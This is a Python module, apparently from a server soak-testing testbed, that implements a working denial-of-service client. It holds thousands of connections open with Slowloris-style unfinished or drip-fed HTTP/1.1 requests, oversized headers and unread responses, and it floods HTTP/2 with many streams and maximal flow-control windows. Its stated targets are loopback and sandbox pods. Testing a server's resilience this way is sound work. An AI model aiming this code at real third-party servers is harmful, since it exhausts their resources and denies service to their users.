"""A hostile client: thousands of connections from one address, each unfinished in one way, for some time.

`python -m testbed.soak.attack KIND --connections N --seconds S`. A connection that the server closes is opened again.
It prints one JSON object. Load goes to loopback and the sandbox's own pods only.
"""

import argparse
import json
import select
import socket
import ssl
import sys
import time
from collections.abc import Callable, Mapping
from contextlib import suppress
from dataclasses import asdict, dataclass

DRIP_SECONDS = 2
CONNECTING_AT_ONCE = 256
HTTP2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LARGEST_WINDOW = 0x7FFFFFFF
IP_BIND_ADDRESS_NO_PORT = 24


@dataclass(frozen=True)
class Kind:
    """What a connection sends.

    Attributes:
        first: At once, made from the path and the number of streams.
        drip: Every two seconds; nothing: it stays silent.
    """

    first: Callable[[str, int], bytes]
    drip: bytes = b""


@dataclass
class Score:
    """What became of the connections."""

    opened: int = 0
    closed: int = 0
    held_peak: int = 0


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """A frame of HTTP/2."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def _field(name: str, value: str) -> bytes:
    """A field of HPACK, not indexed, both shorter than 127 bytes."""
    return b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()


def _streams(path: str, count: int, *, ended: bool = True) -> bytes:
    """HTTP/2 requests on one connection, with windows that let the server send everything at once."""
    block = b"".join(
        _field(*pair) for pair in ((":method", "GET"), (":scheme", "https"), (":path", path), (":authority", "x"))
    )
    settings = b"\0\x04" + LARGEST_WINDOW.to_bytes(4, "big")
    flags = 0x4 | (0x1 if ended else 0)
    return b"".join(
        (
            HTTP2_PREFACE,
            frame(4, 0, 0, settings),
            frame(8, 0, 0, (LARGEST_WINDOW - 65535).to_bytes(4, "big")),
            *(frame(1, flags, 2 * number + 1, block) for number in range(count)),
        )
    )


def _headers(size: int) -> bytes:
    """Headers of about this size without their end, each shorter than 8 kB."""
    lines = max(1, size // 4000)
    return b"".join(b"X-%d: " % number + b"x" * (size // lines - 10) + b"\r\n" for number in range(lines))


KINDS: Mapping[str, Kind] = {
    "idle": Kind(lambda _path, _streams: b""),
    "kept-alive": Kind(lambda _path, _streams: b"GET /v2/ HTTP/1.1\r\nHost: x\r\n\r\n"),
    "unfinished-header": Kind(lambda path, _: f"GET {path} HTTP/1.1\r\nHost: x\r\n".encode(), b"X: y\r\n"),
    "body": Kind(lambda path, _: f"GET {path} HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n".encode(), b"x"),
    "7k-header": Kind(lambda path, _: f"GET {path} HTTP/1.1\r\nHost: x\r\n".encode() + _headers(7_000), b"X: y\r\n"),
    "24k-header": Kind(lambda path, _: f"GET {path} HTTP/1.1\r\nHost: x\r\n".encode() + _headers(24_000), b"X: y\r\n"),
    "unread-body": Kind(lambda path, _: f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode()),
    "unread-streams": Kind(_streams),
    "unended-streams": Kind(lambda path, count: _streams(path, count, ended=False)),
}


class Attack:
    """Connections of one kind from one address, kept at their number."""

    def __init__(self, first: bytes, drip: bytes, *, target: tuple[str, int], source: str, tls: bool) -> None:
        self._first, self._drip, self._target, self._source = first, drip, target, source
        self._context = _context() if tls else None
        self._held: dict[int, socket.socket] = {}
        self._poll = select.epoll()
        self.score = Score()

    def run(self, connections: int, seconds: float) -> Score:
        """Hold the connections until the time has passed."""
        end = next_drip = time.monotonic()
        end += seconds
        while time.monotonic() < end:
            for _ in range(min(CONNECTING_AT_ONCE, connections - len(self._held))):
                self._open()
            self._drop_closed()
            self.score.held_peak = max(self.score.held_peak, len(self._held))
            if self._drip and time.monotonic() > next_drip:
                next_drip = time.monotonic() + DRIP_SECONDS
                self._send_drips()
        return self.score

    def _open(self) -> None:
        raw = socket.socket()
        try:
            # The port is chosen by `connect`: to find a free one here takes 20 ms after thousands of connections.
            raw.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
            raw.bind((self._source, 0))
            raw.settimeout(5)
            raw.connect(self._target)
            made = self._context.wrap_socket(raw) if self._context else raw
            made.sendall(self._first)
            made.settimeout(0)
        except OSError:
            raw.close()
            return
        self._held[made.fileno()] = made
        # An unread connection is watched for its end only.
        self._poll.register(made.fileno(), select.EPOLLRDHUP)
        self.score.opened += 1

    def _drop_closed(self) -> None:
        for descriptor, _ in self._poll.poll(0.01, 4096):
            self._poll.unregister(descriptor)
            self._held.pop(descriptor).close()
            self.score.closed += 1

    def _send_drips(self) -> None:
        for held in self._held.values():
            with suppress(OSError):
                held.send(self._drip)


def _context() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


def command(kind: str, options: Mapping[str, object]) -> list[str]:
    """The words that start this program for one kind of attack, with its options by name."""
    return [
        sys.executable,
        "-m",
        "testbed.soak.attack",
        kind,
        *(f"--{name}={value}" for name, value in options.items()),
    ]


def main() -> int:
    """Attack."""
    parser = argparse.ArgumentParser(prog="python -m testbed.soak.attack", description=__doc__)
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("--connections", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--streams", type=int, default=120, help="of each HTTP/2 connection [%(default)s]")
    parser.add_argument("--path", default="/v2/")
    parser.add_argument("--target", default="127.0.0.1:8080")
    parser.add_argument("--source", default="127.1.0.1")
    arguments = parser.parse_args()
    host, _, port = arguments.target.partition(":")
    kind = KINDS[arguments.kind]
    attack = Attack(
        kind.first(arguments.path, arguments.streams),
        kind.drip,
        target=(host, int(port)),
        source=arguments.source,
        tls=arguments.kind.endswith("-streams"),
    )
    json.dump(asdict(attack.run(arguments.connections, arguments.seconds)), sys.stdout)
    return 0


if __name__ == "__main__":
    sys.exit(main())
